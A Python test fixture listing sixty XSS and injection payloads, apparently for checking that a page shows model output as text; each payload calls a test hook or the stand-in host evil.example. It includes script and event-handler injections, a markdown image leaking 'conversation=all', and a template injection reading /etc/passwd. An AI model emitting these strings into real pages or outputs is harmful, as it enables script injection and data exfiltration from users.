"""Sixty texts that a careless page would run, show as markup or send somewhere: each tells on itself.

One that runs calls `__xss()` (a hook that the test sets before the page loads), opens a dialog, or asks HOST for
something. None is meant to work: a page that shows model text as text shows each of them letter by letter.
"""

HOST = "evil.example"  # reserved by RFC 2606: nobody is there

TAGS = (
    "<script>__xss(1)</script>",
    "<SCRIPT SRC=//evil.example/2.js></SCRIPT>",
    "<script type=module>import('//evil.example/3.js')</script>",
    "<img src=x onerror=__xss(4)>",
    "<img src=`x`onerror=__xss(5)//",
    "<body onload=__xss(6)>",
    "<iframe srcdoc='<script>parent.__xss(7)</script>'></iframe>",
    "<iframe src=javascript:parent.__xss(8)></iframe>",
    "<object data='data:text/html,<script>__xss(9)</script>'></object>",
    "<embed src=//evil.example/10.swf>",
    "<link rel=stylesheet href=//evil.example/11.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/12'>",
    "<base href=//evil.example/13/>",
    "<details open ontoggle=__xss(14)><summary>more</summary></details>",
    "<video><source onerror=__xss(15)></video>",
    "<audio src=x onerror=__xss(16)>",
    "<input autofocus onfocus=__xss(17)>",
    "<form action=//evil.example/18><button>Submit</button></form>",
    "<template><script>__xss(19)</script></template><plaintext>",
    "<marquee onstart=__xss(20)>wide</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=__xss(21)>'>",
    "<dialog open><button popovertarget=p onclick=__xss(22)>x</button></dialog>",
    "<custom-element onfocus=__xss(23) tabindex=0 autofocus id=f>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=__xss(24)>'>",
)
ATTRIBUTES = (
    '" onmouseover="__xss(25)" x="',
    "' autofocus onfocus='__xss(26)",
    '"><script>__xss(27)</script>',
    "'></p><svg/onload=__xss(28)>",
    "x onpointerenter=__xss(29) style=position:fixed;inset:0",
    "--><script>__xss(30)</script><!--",
    "]]><script>__xss(31)</script>",
    "</textarea></title></style></noscript><script>__xss(32)</script>",
)
SVG = (
    "<svg onload=__xss(33)>",
    "<svg><script>__xss(34)</script></svg>",
    "<svg><animate onbegin=__xss(35) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:__xss(36)'><text y=20>click</text></a></svg>",
    "<svg><foreignObject><iframe onload=__xss(37)></iframe></foreignObject></svg>",
    "<svg><use href='//evil.example/38.svg#x'/></svg>",
)
LINKS = (
    "javascript:__xss(39)",
    "[click](javascript:__xss(40))",
    "<a href='java&#x09;script:__xss(41)' autofocus>click</a>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcyg0Mik8L3NjcmlwdD4=",
    "![chart](https://evil.example/43.png?conversation=all)",
    "![x][y]\n\n[y]: https://evil.example/44.png 'title\" onerror=\"__xss(44)'",
    "<https://evil.example/45>",
)
TEMPLATES = (
    "{{constructor.constructor('__xss(46)')()}}",
    "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "${__xss(48)} #{__xss(48)} <%= __xss(48) %> {% raw %}",
    "$\\href{javascript:__xss(49)}{x}$",
    "`${[].filter.constructor('__xss(50)')()}`",
)
SCRIPTS = (
    "</script><script>__xss(51)</script>",
    "<!--<script>",
    '{"answers": [{"text": "\\u003cscript\\u003e__xss(53)\\u003c/script\\u003e"}]}',
    "\u2028__xss(54)\u2029//",
    "<style>@import '//evil.example/55.css'; body { display: none }</style>",
    "}*{background:url(//evil.example/56.png)} body::after{content:'__xss'",
)
ENTITIES_AND_BYTES = (
    "&lt;script&gt;__xss(57)&lt;/script&gt; &#60;img src=x onerror=__xss(57)&#62; &amp;lt;",
    "\ufffd\ufffd<\ufffdscript>__xss(58)</script\ufffd> \u00c0\u00bcscript\u00c0\u00be",
    "\ufeff<script>__xss(59)</script>\ufeff <scr\u200bipt>__xss(59)</scr\u200bipt>",
    "<scr\x00ipt>__xss(60)</scr\x00ipt>\x1b[2J\x1b]8;;https://evil.example/60\x07link\x1b]8;;\x07",
)
PAYLOADS = (*TAGS, *ATTRIBUTES, *SVG, *LINKS, *TEMPLATES, *SCRIPTS, *ENTITIES_AND_BYTES)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
